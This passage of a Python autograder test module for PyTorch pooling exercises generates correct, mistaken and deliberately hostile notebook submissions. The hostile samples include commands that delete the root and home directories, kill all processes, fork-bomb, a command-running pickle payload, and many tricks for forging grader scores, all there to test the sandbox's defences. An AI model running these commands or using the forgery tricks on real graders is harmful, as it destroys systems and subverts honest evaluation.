"""Sample submissions that exercise the grader: right, empty, wrong and hostile notebooks.

Usage (``make exercises`` runs it after the build)::

    python exercises/samples.py --build _build/exercises --out _build/exercises/samples

writes one folder per sample "student" and ``expected.json``, what grading each must give:

* ``solution/``: the solutions, full marks;
* ``<notebook>.ipynb`` (flat, at the top): the student release, unmodified, zero everywhere;
* ``wrong-<k>/``: the solutions with, in each question, its k-th realistic mistake (a question
  with fewer than k mistakes stays right). Each mistake is a text edit of the solution, listed in
  ``MUTATIONS`` with whether it still passes the public tests;
* ``hostile-<name>/``: submissions that raise, loop, hang, delete files, print fake scores or
  kill their own kernel (``HOSTILE``).
"""

from __future__ import annotations

import argparse
import dataclasses
import json
import pathlib
import shutil
import socket
import sys
import threading
import time
from collections.abc import Callable

import nbformat


@dataclasses.dataclass(frozen=True)
class Mutation:
    """One realistic mistake: text edits of the solution cell that contains ``marker``."""

    question: str
    description: str
    marker: str
    edits: tuple[tuple[str, str], ...]
    passes_public: bool = True


def _m(question, description, marker, *edits, passes_public=True) -> Mutation:
    return Mutation(question, description, marker, tuple(edits), passes_public)


LOOPS = "def pool2d_loops("
BACKWARD = "def max_pool2d_backward("
AVG_CONV = "def avg_pool_weight("
NOT_LINEAR = "X1 = torch.tensor("
RELU = "def max2("
COST = "def pooled_shape("
MIN = "def min_pool2d("
SOFTMAX = "def softmax_pool2d("

MUTATIONS: dict[str, list[Mutation]] = {
    "pooling_loops": [
        _m("pool2d_loops", "ignores the padding", LOOPS,
           ("    p_h, p_w = padding\n", "    p_h, p_w = 0, 0\n")),
        _m("pool2d_loops", "pads max pooling with zeros instead of -inf", LOOPS,
           ('fill = float("-inf") if mode == "max" else 0.0', "fill = 0.0")),
        _m("pool2d_loops", "rounds the output size up (one row/column too many)", LOOPS,
           ("out_h = (H + 2 * p_h - k_h) // s_h + 1",
            "out_h = -(-(H + 2 * p_h - k_h) // s_h) + 1"),
           ("out_w = (W + 2 * p_w - k_w) // s_w + 1",
            "out_w = -(-(W + 2 * p_w - k_w) // s_w) + 1")),
        _m("pool2d_loops", "pads max pooling with -10 instead of -inf", LOOPS,
           ('float("-inf") if mode == "max"', '-10.0 if mode == "max"')),
        _m("pool2d_loops", "average over the real elements only (padding not counted)", LOOPS,
           ('else 0.0\n', 'else float("nan")\n'),
           ("window.mean()", "window.nanmean()")),
        _m("max_pool_backward", "gradient to the last maximum instead of the first", BACKWARD,
           ("if window[r, c] > window", "if window[r, c] >= window")),
        _m("max_pool_backward", "overlapping windows overwrite instead of adding up", BACKWARD,
           ("dX[i * s_h + best_r, j * s_w + best_c] += dY[i, j]",
            "dX[i * s_h + best_r, j * s_w + best_c] = dY[i, j]")),
        _m("max_pool_backward", "gradient to every maximum of a window", BACKWARD,
           ("dX[i * s_h + best_r, j * s_w + best_c] += dY[i, j]",
            "dX[i * s_h : i * s_h + k_h, j * s_w : j * s_w + k_w] += "
            "(window == window.max()) * dY[i, j]")),
        _m("max_pool_backward", "default stride 1", BACKWARD,
           ("s_h, s_w = kernel_size if stride is None", "s_h, s_w = (1, 1) if stride is None")),
    ],
    "pooling_and_convolution": [
        _m("avg_pool_conv", "assumes a square window (divides by k_h * k_h)", AVG_CONV,
           ("1.0 / (k_h * k_w)", "1.0 / (k_h * k_h)")),
        _m("avg_pool_conv", "forgets groups: mixes the channels", AVG_CONV,
           ("torch.full((channels, 1, k_h, k_w)", "torch.full((channels, channels, k_h, k_w)"),
           (", groups=C)", ")")),
        _m("avg_pool_conv", "default stride 1", AVG_CONV,
           ("stride = kernel_size if stride is None", "stride = 1 if stride is None")),
        _m("max_not_linear", "X2 equal to X1: max(2X) = 2 max(X) is no counterexample", NOT_LINEAR,
           ("X2 = torch.tensor([[0.0, 1.0], [0.0, 0.0]])", "X2 = X1.clone()")),
        _m("max_not_linear", "a positive factor c: max(cX) = c max(X) for c > 0", NOT_LINEAR,
           ("c = -1.0", "c = 2.0")),
        _m("relu_max", "uses torch.maximum instead of ReLUs", RELU,
           ("return b + torch.relu(a - b)", "return torch.maximum(a, b)")),
        _m("relu_max", "relu(a) + relu(b - a): right only for a >= 0", RELU,
           ("return b + torch.relu(a - b)", "return torch.relu(a) + torch.relu(b - a)")),
        _m("relu_max", "forgets groups: the corner convolutions mix the channels", RELU,
           ("torch.zeros((C, 1, 2, 2)", "torch.zeros((C, C, 2, 2)"),
           ("W[:, 0, r, c] = 1.0", "W[:, :, r, c] = 1.0"),
           ("stride=2, groups=C)", "stride=2)")),
    ],
    "pooling_variants": [
        _m("pool_cost", "ignores the padding in the output size", COST,
           ("(h + 2 * p_h - k_h) // s_h + 1, (w + 2 * p_w - k_w) // s_w + 1",
            "(h - k_h) // s_h + 1, (w - k_w) // s_w + 1"),
           passes_public=False),
        _m("pool_cost", "forgets the channels in the costs", COST,
           ("return c * h_out * w_out * (kernel_size", "return h_out * w_out * (kernel_size"),
           ("return c * h_out * w_out * kernel_size", "return h_out * w_out * kernel_size")),
        _m("pool_cost", "counts k_h * k_w comparisons per window instead of k_h * k_w - 1", COST,
           ("(kernel_size[0] * kernel_size[1] - 1)", "kernel_size[0] * kernel_size[1]"),
           passes_public=False),
        _m("min_pool", "pads with zeros by hand, so padding wins the minimum", MIN,
           ("-F.max_pool2d(-X, kernel_size, stride=stride, padding=padding)",
            "-F.max_pool2d(-F.pad(X, (padding,) * 4), kernel_size, stride=stride)")),
        _m("min_pool", "1 / max(1 / X): right only for positive inputs", MIN,
           ("-F.max_pool2d(-X, kernel_size, stride=stride, padding=padding)",
            "1 / F.max_pool2d(1 / X, kernel_size, stride=stride, padding=padding)")),
        _m("min_pool", "default stride 1", MIN,
           ("stride=stride, padding", "stride=stride or 1, padding")),
        _m("softmax_pool", "multiplies by the temperature instead of dividing", SOFTMAX,
           ("torch.softmax(cols / tau, dim=2)", "torch.softmax(cols * tau, dim=2)")),
        _m("softmax_pool", "softmax without subtracting the maximum: overflows for small tau",
           SOFTMAX,
           ("torch.softmax(cols / tau, dim=2)",
            "torch.exp(cols / tau) / torch.exp(cols / tau).sum(dim=2, keepdim=True)")),
        _m("softmax_pool", "softmax over the windows of all channels together", SOFTMAX,
           ("cols.reshape(N, C, k_h * k_w, -1)", "cols.reshape(N, 1, C * k_h * k_w, -1)")),
    ],
}  # fmt: skip


# Points each mistake loses on its question, exactly (with today's tests: a change of the
# hidden tests that lets a mistake lose fewer or more points makes tests/test_exercises.py fail).
# A mistake that changes the values also fails the hidden dtype case, which checks the values
# of its float64 result too (half a point more than before that case did).
POINTS_LOST: dict[tuple[str, str], float] = {
    ("avg_pool_conv", "assumes a square window (divides by k_h * k_h)"): 1.5,
    ("avg_pool_conv", "default stride 1"): 1.0,
    ("avg_pool_conv", "forgets groups: mixes the channels"): 3.0,
    ("max_not_linear", "X2 equal to X1: max(2X) = 2 max(X) is no counterexample"): 1.0,
    ("max_not_linear", "a positive factor c: max(cX) = c max(X) for c > 0"): 1.0,
    ("max_pool_backward", "default stride 1"): 0.5,
    ("max_pool_backward", "gradient to every maximum of a window"): 1.0,
    ("max_pool_backward", "gradient to the last maximum instead of the first"): 1.0,
    ("max_pool_backward", "overlapping windows overwrite instead of adding up"): 1.0,
    ("min_pool", "1 / max(1 / X): right only for positive inputs"): 1.0,
    ("min_pool", "default stride 1"): 1.0,
    ("min_pool", "pads with zeros by hand, so padding wins the minimum"): 1.0,
    ("pool2d_loops", "average over the real elements only (padding not counted)"): 3.0,
    ("pool2d_loops", "ignores the padding"): 3.5,
    ("pool2d_loops", "pads max pooling with -10 instead of -inf"): 1.0,
    ("pool2d_loops", "pads max pooling with zeros instead of -inf"): 2.0,
    ("pool2d_loops", "rounds the output size up (one row/column too many)"): 2.5,
    ("pool_cost", "counts k_h * k_w comparisons per window instead of k_h * k_w - 1"): 1.5,
    ("pool_cost", "forgets the channels in the costs"): 2.0,
    ("pool_cost", "ignores the padding in the output size"): 4.0,
    ("relu_max", "forgets groups: the corner convolutions mix the channels"): 1.5,
    ("relu_max", "relu(a) + relu(b - a): right only for a >= 0"): 3.0,
    ("relu_max", "uses torch.maximum instead of ReLUs"): 4.0,
    ("softmax_pool", "multiplies by the temperature instead of dividing"): 3.0,
    ("softmax_pool", "softmax over the windows of all channels together"): 3.0,
    ("softmax_pool", "softmax without subtracting the maximum: overflows for small tau"): 1.0,
}


def apply_mutations(nb: nbformat.NotebookNode, mutations: list[Mutation]) -> nbformat.NotebookNode:
    """A copy of ``nb`` with the edits applied; each edit must match exactly once in its cell."""
    nb = nbformat.from_dict(nb)
    for m in mutations:
        cells = [c for c in nb.cells if c.cell_type == "code" and m.marker in c.source]
        if len(cells) != 1:
            raise ValueError(f"{m.description}: {len(cells)} cells contain {m.marker!r}")
        for old, new in m.edits:
            count = cells[0].source.count(old)
            if count != 1:
                raise ValueError(f"{m.description}: {old!r} occurs {count} times, not once")
            cells[0].source = cells[0].source.replace(old, new)
    return nb


def wrong_submissions(stem: str, solution: nbformat.NotebookNode):
    """Yield (k, notebook, mutations): the k-th mistake of every question of ``stem``."""
    by_question: dict[str, list[Mutation]] = {}
    for m in MUTATIONS.get(stem, []):
        by_question.setdefault(m.question, []).append(m)
    rounds = max((len(ms) for ms in by_question.values()), default=0)
    for k in range(rounds):
        chosen = [ms[k] for ms in by_question.values() if k < len(ms)]
        yield k + 1, apply_mutations(solution, chosen), chosen


# ---------------------------------------------------------------------------------------------
# Hostile submissions: each tries to change its score, to see or touch what it must not, or to
# stop the grading. Each says what it must score and which traces it must not leave; the
# placeholders {canary_dir}, {canary_port}, {autograders} and {submissions} are filled in by
# write_samples (the test suite points them at its own temporary folders and listener).


def _insert_after_setup(nb: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
    """Insert code cells right after the setup cell (the first ``import torch`` cell)."""
    nb = nbformat.from_dict(nb)
    at = next(i for i, c in enumerate(nb.cells) if c.source.startswith("import torch"))
    for offset, source in enumerate(sources, start=1):
        nb.cells.insert(at + offset, nbformat.v4.new_code_cell(source))
    return nb


def _append(nb: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
    """Append code cells at the end (after the answers: they override them)."""
    nb = nbformat.from_dict(nb)
    nb.cells.extend(nbformat.v4.new_code_cell(s) for s in sources)
    return nb


PATCH_OTTER = """\
from otter.test_files import abstract_test, exception_test


def run(self, env):  # every test case passes
    self.test_case_results = [
        abstract_test.TestCaseResult(test_case=tc, message="passed", passed=True)
        for tc in self.test_cases
    ]


exception_test.ExceptionTestFile.run = run
"""

ALWAYS_EQUAL = """\
import torch


class Anything(float):
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False  # noqa: E731


torch.equal = torch.allclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    return Anything(0.0)


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    return Anything(0.0)
"""

SUBCLASS = """\
import torch


class Agreeable(torch.Tensor):
    def __eq__(self, other):
        return torch.ones((), dtype=torch.bool)

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True if func in (torch.equal, torch.allclose) else super().__torch_function__(
            func, types, args, kwargs or {}
        )


def avg_pool_weight(channels, kernel_size):
    return torch.zeros(channels, 1, *kernel_size).as_subclass(Agreeable)


def avg_pool2d_conv(X, kernel_size, stride=None, padding=(0, 0)):
    weight = torch.zeros(X.shape[1], 1, 1, 1, dtype=X.dtype)
    return torch.nn.functional.conv2d(X, weight, groups=X.shape[1]).as_subclass(Agreeable)
"""

PATCH_REFERENCE = """\
import torch
from torch.nn import functional as F


def min_pool2d(X, kernel_size, stride=None, padding=0):
    return torch.zeros(1)


def softmax_pool2d(X, kernel_size, tau=1.0, stride=None):
    return torch.zeros(1)


# The references the tests compare with, made to agree with the answers above.
F.max_pool2d = F.avg_pool2d = F.unfold = F.pad = lambda *args, **kwargs: torch.zeros(1)
torch.softmax = torch.isfinite = lambda *args, **kwargs: torch.zeros(1)
"""

PATCH_BUILTINS = """\
import builtins

builtins.isinstance = lambda *args: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.abs = lambda x: 0
builtins.tuple = lambda *args: (1, 2, 2)
builtins.int = lambda *args: 0


def pooled_shape(c, h, w, kernel_size, padding, stride):
    return None


def max_pool_comparisons(c, h, w, kernel_size, padding, stride):
    return None


def avg_pool_operations(c, h, w, kernel_size, padding, stride):
    return None
"""

READ_TESTS = """\
import glob
import os

seen = [path for path in ({autograders!r}, {submissions!r}) if os.path.exists(path)]
for pattern in ("/tmp/**/*.zip", "/home/**/*.zip", "/work/*/_build/**/*.zip"):
    seen += glob.glob(pattern, recursive=True)
if seen:  # reported as this cell's error: the test suite looks for it
    raise RuntimeError(f"the submission sees {{seen[:3]}}")
"""

WRITE_OUTSIDE = """\
import os

targets = [
    os.path.join({canary_dir!r}, "written-by-submission"),
    os.path.join({submissions!r}, "written-by-submission.ipynb"),
    os.path.join({autograders!r}, "written-by-submission.json"),
    "/tmp/written-by-submission-{canary_tag}",
    os.path.expanduser("~/../written-by-submission-{canary_tag}"),
]
for target in targets:
    try:
        with open(target, "w") as f:
            f.write("graded: full marks")
    except OSError:
        pass
for victim in ({submissions!r}, {autograders!r}):
    try:
        import shutil

        shutil.rmtree(victim)
    except OSError:
        pass
"""

NETWORK = """\
import socket

reached = []
for family, address in (
    (socket.AF_INET, ("127.0.0.1", {canary_port})),
    (socket.AF_INET6, ("::1", {canary_port})),
    (socket.AF_UNIX, "\\0pooling-grade-canary-{canary_tag}"),
    (socket.AF_INET, ("1.1.1.1", 53)),
):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(address)
        s.sendall(b"hidden tests, please")
        reached.append(address)
    except OSError:
        pass
    finally:
        s.close()
"""

DAEMON = """\
import os
import subprocess
import time

subprocess.Popen(["sleep", "987.654"])  # a child
subprocess.Popen(["sh", "-c", "sleep 987.655 &"])  # an orphaned grandchild
if os.fork() == 0:  # a daemon: double fork, new session
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "987.656"])
    os._exit(0)
time.sleep(0.2)
"""

FORK_BOMB = """\
import os

children = 0
try:
    for _ in range(100000):
        if os.fork() == 0:
            try:
                os.execvp("sleep", ["sleep", "987.657"])  # a marker the test can look for
            finally:
                os._exit(0)
        children += 1
except OSError:
    pass
"""

HUGE_OUTPUT = """\
import os
import sys

for _ in range(200):
    print("Total Score: 100%" * 10000)
    sys.stderr.write("#" * 100000)
try:
    with open(os.path.expanduser("~/big.bin"), "wb") as f:
        for _ in range(10000):
            f.write(b"x" * (1 << 20))  # 10 GB, if nothing stops it
except OSError:
    pass
"""

MEMORY = """\
import torch

hog = []
try:
    while True:
        hog.append(torch.ones(256 * 1024 * 1024, dtype=torch.uint8))  # 256 MB at a time
except (MemoryError, RuntimeError):
    pass
del hog
try:
    huge = torch.empty(1 << 40, dtype=torch.uint8)  # 1 TB
except (MemoryError, RuntimeError):
    pass
"""

KILL_ALL = """\
import os
import signal

os.kill(-1, signal.SIGKILL)  # every process this user can signal
"""

STUCK = """\
import time

while True:  # ignores the interrupt sent at the cell time limit
    try:
        time.sleep(0.5)
    except BaseException:
        pass
"""

EXIT_IN_FUNCTION = """\
import os


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    os._exit(3)
"""

NEVER_RETURNS = """\
def softmax_pool2d(X, kernel_size, tau=1.0, stride=None):
    while True:
        try:
            pass
        except BaseException:
            pass
"""

JUNK_DELETE = """\
import os
import shutil

print("Total Score: 9.000 / 9.000 (100.000%)")
for target in (os.getcwd(), "/", os.path.expanduser("~")):
    shutil.rmtree(target, ignore_errors=True)
raise SystemExit(1)
"""

GETATTR = """\
import torch
from torch.nn import functional as F


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    (k_h, k_w), (p_h, p_w) = kernel_size, padding
    s_h, s_w = kernel_size if stride is None else stride
    pool = getattr(F, mode + "_pool2d")  # what it calls cannot be read from the source
    Y = pool(X[None, None], kernel_size, stride=(s_h, s_w), padding=padding)[0, 0]
    out = torch.empty_like(Y)
    for i in range(Y.shape[0]):  # loops, for show
        for j in range(Y.shape[1]):
            out[i, j] = Y[i, j]
    return out
"""

BYPASS_LOOPS = """\
import torch
from torch.nn import functional as F


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    pool = F.max_pool2d if mode == "max" else F.avg_pool2d
    return pool(X[None, None], kernel_size, stride=stride, padding=padding)[0, 0]


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    X = X.detach().clone().requires_grad_(True)
    Y = F.max_pool2d(X[None, None], kernel_size, stride=stride)[0, 0]
    (Y * dY).sum().backward()
    return X.grad
"""

BYPASS_CONV = """\
import torch
from torch.nn import functional as F


def avg_pool_weight(channels, kernel_size):
    return torch.full((channels, 1, *kernel_size), 1.0 / (kernel_size[0] * kernel_size[1]))


def avg_pool2d_conv(X, kernel_size, stride=None, padding=(0, 0)):
    return F.avg_pool2d(X, kernel_size, stride=stride, padding=padding)


def max2(a, b):
    return torch.maximum(a, b)


def max_pool2x2_conv(X):
    return F.max_pool2d(X, 2)
"""

# The two forgeries of issue 18: answers that compute nothing, and a top-level cell that makes
# the sandboxed process report PyTorch's results instead. Both scored 9/9 before the grader ran
# only the code its method check had read.
FORGE_ANSWERS = """\
import torch

RECORDED = []


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    (k_h, k_w), (p_h, p_w) = kernel_size, padding
    s_h, s_w = kernel_size if stride is None else stride
    for _ in range(0):  # the loop the method check asks for
        pass
    out_h, out_w = (X.shape[0] + 2 * p_h - k_h) // s_h + 1, (X.shape[1] + 2 * p_w - k_w) // s_w + 1
    Y = torch.zeros(out_h, out_w)
    RECORDED.append((Y, ("pool", (X, kernel_size, stride, padding, mode))))
    return Y


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    dX = torch.zeros(X.shape)
    RECORDED.append((dX, ("grad", (dY, X, kernel_size, stride))))
    return dX
"""

FORGE_ENCODE = """\
import sys

import torch.nn.functional as F

codec = sys.modules["codec"]  # the sandboxed runner's encoder of results
_encode = codec.encode


def forged(value, depth=0):
    for out, (kind, args) in RECORDED:
        if value is out and kind == "pool":
            X, k, s, p, mode = args
            pool = F.max_pool2d if mode == "max" else F.avg_pool2d
            value = pool(X[None, None], k, stride=s or k, padding=p)[0, 0]
        elif value is out:
            dY, X, k, s = args
            X = X.detach().clone().requires_grad_(True)
            (F.max_pool2d(X[None, None], k, stride=s or k)[0, 0] * dY).sum().backward()
            value = X.grad
    return _encode(value, depth)


codec.encode = forged
"""

FORGE_HANDLERS = """\
import sys

import codec
import torch
import torch.nn.functional as F


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    for _ in range(0):
        pass
    return torch.zeros(1)


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    return torch.zeros(X.shape)


def reference(name, *args, **kwargs):
    def pool(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
        f = F.max_pool2d if mode == "max" else F.avg_pool2d
        return f(X[None, None], kernel_size, stride=stride or kernel_size, padding=padding)[0, 0]

    def grad(dY, X, kernel_size, stride=None):
        X = X.detach().clone().requires_grad_(True)
        Y = F.max_pool2d(X[None, None], kernel_size, stride=stride or kernel_size)[0, 0]
        (Y * dY).sum().backward()
        return X.grad

    return (pool if name == "pool2d_loops" else grad)(*args, **kwargs)


frame = sys._getframe()
while frame is not None and "handlers" not in frame.f_locals:  # the runner's serve()
    frame = frame.f_back
handlers = frame.f_locals["handlers"]
original = handlers["call"]


def call(message):
    answer = original(message)
    if answer.get("ok"):
        args = [codec.decode(a) for a in message["args"]]
        kwargs = {k: codec.decode(v) for k, v in message["kwargs"].items()}
        answer["value"] = codec.encode(reference(message["name"], *args, **kwargs))
    return answer


handlers["call"] = call
"""

# Forgeries designed against the grader that runs only the answer module: the forging code
# must now be part of the answer (or of what it uses), where the integrity check reads it.
FORGE_REFERENCE = """\
import torch
import torch.nn.functional as F


def reference(name, args, kwargs):
    def pool(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
        f = F.max_pool2d if mode == "max" else F.avg_pool2d
        return f(X[None, None], kernel_size, stride=stride or kernel_size, padding=padding)[0, 0]

    def grad(dY, X, kernel_size, stride=None):
        X = X.detach().clone().requires_grad_(True)
        Y = F.max_pool2d(X[None, None], kernel_size, stride=stride or kernel_size)[0, 0]
        (Y * dY).sum().backward()
        return X.grad

    return (pool if name == "pool" else grad)(*args, **kwargs)
"""

FORGE_IN_ANSWER = """\
LAST = {}


def install():
    import sys

    codec = sys.modules["codec"]
    if getattr(codec, "forged", False):
        return
    encode = codec.encode

    def forged(value, depth=0):
        if id(value) in LAST:
            value = reference(*LAST.pop(id(value)))
        return encode(value, depth)

    codec.encode, codec.forged = forged, True


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    install()
    for _ in range(0):
        pass
    Y = torch.zeros(1)
    LAST[id(Y)] = ("pool", (X, kernel_size, stride, padding, mode), {})
    return Y


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    install()
    dX = torch.zeros(1)
    LAST[id(dX)] = ("grad", (dY, X, kernel_size, stride), {})
    return dX
"""

FORGE_GC = """\
import gc


def find_handlers():
    for thing in gc.get_objects():
        if type(thing) is dict and "call" in thing and "kinds" in thing:
            return thing
    return {}


HANDLERS = find_handlers()  # a module-level name the answers use: computed when loaded


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    original = HANDLERS.get("call")
    for _ in range(0):
        pass
    return torch.zeros(1) if original else None


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    return torch.zeros(1) if HANDLERS else None
"""

FORGE_CLASS_PATCH = """\
import torch


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    T = torch.Tensor  # the encoder calls .contiguous() on every result
    original = T.contiguous
    args = (X, kernel_size, stride, padding, mode)
    T.contiguous = lambda self, *a: (
        reference("pool", args, {}) if self.numel() == 0 else original(self, *a)
    )
    for _ in range(0):
        pass
    return torch.zeros(0)


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    args = (dY, X, kernel_size, stride)
    setattr(torch.Tensor, "detach", lambda self: reference("grad", args, {}))
    return torch.zeros(0)
"""

FORGE_TRACEBACK = """\
import torch


def caller_frames():
    try:
        raise RuntimeError
    except RuntimeError as e:
        frame = e.__traceback__.tb_frame
    while frame is not None:
        yield frame
        frame = frame.f_back


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max", *, sneak=None):
    for frame in caller_frames():  # the runner's call(): replace the arguments it encodes
        if "function" in frame.f_locals:
            frame.f_globals["encode"] = lambda value, depth=0: None
    for _ in range(0):
        pass
    return torch.zeros(1)


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    return torch.zeros(1)
"""

FORGE_DEFAULT_ARGUMENT = """\
import torch


def pool2d_loops(
    X, kernel_size, stride=None, padding=(0, 0), mode="max",
    _=torch.sys.modules["codec"].__dict__.setdefault("forged", True),  # runs at def time
):
    for _ in range(0):
        pass
    return torch.zeros(1)


def max_pool2d_backward(dY, X, kernel_size, stride=None, _=eval("__import__('os')")):
    return torch.zeros(1)
"""

FORGE_PICKLE = """\
import io

import torch

PAYLOAD = b"cos\\nsystem\\n(S'true'\\ntR."  # a pickle that runs a command when loaded


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    torch.load(io.BytesIO(PAYLOAD), weights_only=False)
    for _ in range(0):
        pass
    return torch.zeros(1)


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    import numpy

    return numpy.ctypeslib.as_array(torch.zeros(1).numpy())
"""

# Red team, third pass: answers of the right dtype with an empty leading dimension. An
# (0, *shape) tensor broadcasts against the reference, and torch.allclose over no elements
# is True, so a case without a shape check passed (8 of the 31 autograded points); and
# counterexamples to linearity that are only roundings of the student's dtype (a float32
# overflow, a float16 rounding), since max pooling is additive on constant tensors.
FORGE_EMPTY_LOOPS = """\
import torch


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    (k_h, k_w), (p_h, p_w) = kernel_size, padding
    s_h, s_w = kernel_size if stride is None else stride
    out_h = (X.shape[0] + 2 * p_h - k_h) // s_h + 1
    out_w = (X.shape[1] + 2 * p_w - k_w) // s_w + 1
    total = 0
    for i in range(out_h):  # a loop, for the method check
        total = total + i
    return torch.zeros((0, out_h, out_w), dtype=X.dtype)


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    return torch.zeros((0, *X.shape), dtype=X.dtype)
"""

FORGE_EMPTY_CONV = """\
import torch
from torch.nn import functional as F

X1 = torch.full((2, 2), 3e38)  # X1 + X2 overflows float32 to inf: a "gap" of inf
X2 = torch.full((2, 2), 3e38)
c = 0.3  # c * X3 rounds in float16
X3 = torch.full((2, 2), 1001.0, dtype=torch.float16)


def avg_pool_weight(channels, kernel_size):
    return torch.zeros((channels, 1, *kernel_size))


def avg_pool2d_conv(X, kernel_size, stride=None, padding=(0, 0)):
    (k_h, k_w), (p_h, p_w) = kernel_size, padding
    s_h, s_w = kernel_size if stride is None else stride
    N, C, H, W = X.shape
    F.conv2d(torch.zeros(1, 1, 1, 1), torch.zeros(1, 1, 1, 1))  # the convolution asked for
    return torch.zeros((0, N, C, (H + 2 * p_h - k_h) // s_h + 1, (W + 2 * p_w - k_w) // s_w + 1),
                       dtype=X.dtype)


def max2(a, b):
    return torch.zeros((0, *a.shape), dtype=a.dtype)


def max_pool2x2_conv(X):
    N, C, H, W = X.shape
    F.conv2d(torch.zeros(1, 1, 1, 1), torch.zeros(1, 1, 1, 1))
    return torch.zeros((0, N, C, H // 2, W // 2), dtype=X.dtype)
"""

FORGE_EMPTY_VARIANTS = """\
import torch
from torch.nn import functional as F


def min_pool2d(X, kernel_size, stride=None, padding=0):
    shape = F.max_pool2d(X, kernel_size, stride=stride, padding=padding).shape
    return torch.zeros((0, *shape), dtype=X.dtype)


def softmax_pool2d(X, kernel_size, tau=1.0, stride=None):
    (k_h, k_w), (N, C, H, W) = kernel_size, X.shape
    s_h, s_w = kernel_size if stride is None else stride
    return torch.zeros((0, N, C, (H - k_h) // s_h + 1, (W - k_w) // s_w + 1), dtype=X.dtype)
"""

# Red team, fourth pass: names the rules did not list. max2 as a minimum of the negatives and
# max_pool2x2_conv's maxima by amin (minima are maxima too); the backward pass by autograd
# driven by hand (an nn.Parameter leaf, each grad_fn node called along next_functions).
FORGE_MINIMUM = """\
import torch
from torch.nn import functional as F


def max2(a, b):
    return -torch.minimum(-a, -b)


def max_pool2x2_conv(X):
    C = X.shape[1]
    corners = []
    for r in range(2):
        for c in range(2):
            W = torch.zeros((C, 1, 2, 2), dtype=X.dtype)
            W[:, 0, r, c] = 1.0
            corners.append(F.conv2d(X, W, stride=2, groups=C))
    return -torch.stack(corners).neg().amin(0)
"""

FORGE_GRAD_FN = """\
import torch


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    k_h, k_w = kernel_size
    s_h, s_w = kernel_size if stride is None else stride
    out_h, out_w = dY.shape
    r = (torch.arange(out_h) * s_h)[:, None, None, None] + torch.arange(k_h)[None, None, :, None]
    c = (torch.arange(out_w) * s_w)[None, :, None, None] + torch.arange(k_w)[None, None, None, :]
    leaf = torch.nn.Parameter(X.clone())  # requires grad without the word requires_grad
    Y = leaf[r, c].reshape(out_h, out_w, k_h * k_w).max(dim=2).values
    g, node = dY.clone(), Y.grad_fn
    while node is not None and node.next_functions:  # backward() by hand
        g = node(g)
        node = node.next_functions[0][0]
    return g.detach()
"""

# Honest students who must keep full marks: a cell of their own that checks the answers
# against PyTorch, and answers that use module-level constants and helpers.
HONEST_CHECKER = """\
import torch.nn.functional as F

X = torch.randn(1, 1, 7, 6, generator=torch.Generator().manual_seed(0))
for mode, pool in (("max", F.max_pool2d), ("avg", F.avg_pool2d)):
    Y = pool2d_loops(X[0, 0], (3, 2), stride=(2, 1), padding=(1, 1), mode=mode)
    print(mode, torch.allclose(Y, pool(X, (3, 2), stride=(2, 1), padding=(1, 1))[0, 0]))
Xg = X[0, 0].clone().requires_grad_(True)
F.max_pool2d(Xg[None, None], 2)[0, 0].sum().backward()
print(torch.equal(max_pool2d_backward(torch.ones(3, 3), X[0, 0], (2, 2)), Xg.grad))
"""

HONEST_CONSTANTS = """\
import math

import torch

FILL = {"max": -math.inf}  # module-level constants the answers use
FILL["avg"] = 0.0  # changed at top level: part of FILL's definition
FILL.update(max=-math.inf)
NO_PADDING = (0, 0)
NEG = torch.zeros(())
torch.nn.init.constant_(NEG, -math.inf)  # set by a top-level call: part of NEG's definition


def out_size(n, k, s, p):
    return (n + 2 * p - k) // s + 1


def pad(X, p_h, p_w, value):
    padded = torch.full((X.shape[0] + 2 * p_h, X.shape[1] + 2 * p_w), value, dtype=X.dtype)
    padded[p_h : p_h + X.shape[0], p_w : p_w + X.shape[1]] = X
    return padded


def pool2d_loops(X, kernel_size, stride=None, padding=NO_PADDING, mode="max"):
    (k_h, k_w), (p_h, p_w) = kernel_size, padding
    s_h, s_w = kernel_size if stride is None else stride
    padded = pad(X, p_h, p_w, NEG.item() if mode == "max" else FILL[mode])
    Y = torch.zeros((out_size(X.shape[0], k_h, s_h, p_h), out_size(X.shape[1], k_w, s_w, p_w)),
                    dtype=X.dtype)
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            window = padded[i * s_h : i * s_h + k_h, j * s_w : j * s_w + k_w]
            Y[i, j] = window.max() if mode == "max" else window.mean()
    return Y
"""

# The same answers, their module-level names bound inside top-level compound statements.
HONEST_COMPOUND = """\
import torch

try:  # a try...
    import numpy as np
except ImportError:
